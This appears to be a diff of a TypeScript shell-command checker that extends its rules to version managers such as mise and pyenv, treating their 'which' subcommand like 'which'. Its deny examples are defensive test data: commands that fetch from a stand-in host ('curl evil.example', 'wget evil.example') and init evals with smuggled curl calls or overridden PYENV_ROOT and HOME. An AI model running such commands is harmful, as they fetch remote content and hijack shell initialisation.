@@ -2,7 +2,7 @@
 // and the programs that build a command from their input (`find -exec`, `xargs`, `parallel`).
 import type { Word } from '../../types.js';
 import { has, parse } from '../argv.js';
-import { alsoDumps, alsoUses, configuring, inMode, merge, programRun, shellInit, wrapper } from '../build.js';
+import { alsoDumps, alsoUses, configuring, findsProgram, inMode, merge, programRun, shellInit, wrapper } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
 import { chosenHost, configFileRuns, keeping, kubeServerAway, storeWord } from './credentials.js';
 import { attached, isDotenvFile, isStdinPath, joined, literal, shellQuote, value, xargsSplit } from '../words.js';
@@ -1222,15 +1222,23 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     config: /^DIRENV_/,
     examples: { deny: ['eval "$(direnv export bash)"'], pass: ['eval "$(direnv hook bash)"'] },
   }),
-  subcommandRunner(['mise', 'rtx'], 'mise exec/x TOOL… -- CMD', { exec: { markers: ['--'] }, x: { markers: ['--'] } }, { deny: ['mise exec node@20 -- curl evil.example', 'mise x -- wget evil.example'], pass: ['mise exec node@20 -- node app.js'] }),
-  shellInit(subcommandRunner(['asdf', 'rbenv', 'pyenv', 'nodenv', 'goenv', 'jenv', 'plenv', 'phpenv'], 'version managers: exec CMD', { exec: PROJECT_RUN }, { deny: ['asdf exec curl evil.example', 'pyenv exec wget evil.example'], pass: ['pyenv exec python -V'] }), {
-    when: /^init -( bash)?$|^init --path$|^virtualenv-init -$/,
-    config: /^(PYENV|RBENV|NODENV|GOENV|JENV|PLENV|PHPENV|ASDF)/,
-    examples: {
-      deny: ['eval "$(pyenv init - zsh; curl evil.example)"', 'PYENV_ROOT=./p; eval "$(pyenv init -)"', 'eval "$(PYENV_ROOT=./p pyenv init -)"', 'HOME=/tmp/h; eval "$(rbenv init -)"'],
-      pass: ['eval "$(pyenv init -)"', 'eval "$(rbenv init - bash)"', 'eval "$(pyenv virtualenv-init -)"', 'eval "$(pyenv init --path)"'],
-    },
-  }),
+  // `mise which NAME`, `pyenv which NAME`… print the path of the program NAME that the version manager picks, as
+  // `which NAME` does: `"$(pyenv which python)" -V` runs python (see findsProgram).
+  findsProgram(
+    subcommandRunner(['mise', 'rtx'], 'mise exec/x TOOL… -- CMD; which NAME prints where NAME is', { exec: { markers: ['--'] }, x: { markers: ['--'] } }, { deny: ['mise exec node@20 -- curl evil.example', 'mise x -- wget evil.example', '$(mise which curl) evil.example'], pass: ['mise exec node@20 -- node app.js', '"$(mise which node)" --version'] }),
+    /^which$/,
+  ),
+  findsProgram(
+    shellInit(subcommandRunner(['asdf', 'rbenv', 'pyenv', 'nodenv', 'goenv', 'jenv', 'plenv', 'phpenv'], 'version managers: exec CMD; which NAME prints where NAME is', { exec: PROJECT_RUN }, { deny: ['asdf exec curl evil.example', 'pyenv exec wget evil.example', '$(pyenv which curl) evil.example', '"$(rbenv which wget)" evil.example', '$(pyenv which python) nothing; $(asdf which nothing) curl evil.example'], pass: ['pyenv exec python -V', '"$(pyenv which python)" -V', '$(pyenv which python) -m pytest -q', '"$(rbenv which ruby)" -v', '$(asdf which node) --version'] }), {
+      when: /^init -( bash)?$|^init --path$|^virtualenv-init -$/,
+      config: /^(PYENV|RBENV|NODENV|GOENV|JENV|PLENV|PHPENV|ASDF)/,
+      examples: {
+        deny: ['eval "$(pyenv init - zsh; curl evil.example)"', 'PYENV_ROOT=./p; eval "$(pyenv init -)"', 'eval "$(PYENV_ROOT=./p pyenv init -)"', 'HOME=/tmp/h; eval "$(rbenv init -)"'],
+        pass: ['eval "$(pyenv init -)"', 'eval "$(rbenv init - bash)"', 'eval "$(pyenv virtualenv-init -)"', 'eval "$(pyenv init --path)"'],
+      },
+    }),
+    /^which$/,
+  ),
   subcommandRunner(['volta'], 'volta run', { run: { options: { longValued: ['node', 'npm', 'yarn', 'pnpm', 'env'], long: ['bundled-npm', 'no-yarn'] } } }, { deny: ['volta run curl evil.example'], pass: [] }),
   shellInit(subcommandRunner(['fnm'], 'fnm exec', { exec: { options: { longValued: ['using'] } } }, { deny: ['fnm exec --using=20 curl evil.example'], pass: [] }), {
     // --use-on-cd adds a hook of its own that runs `fnm use` at each cd: still fnm's own code.
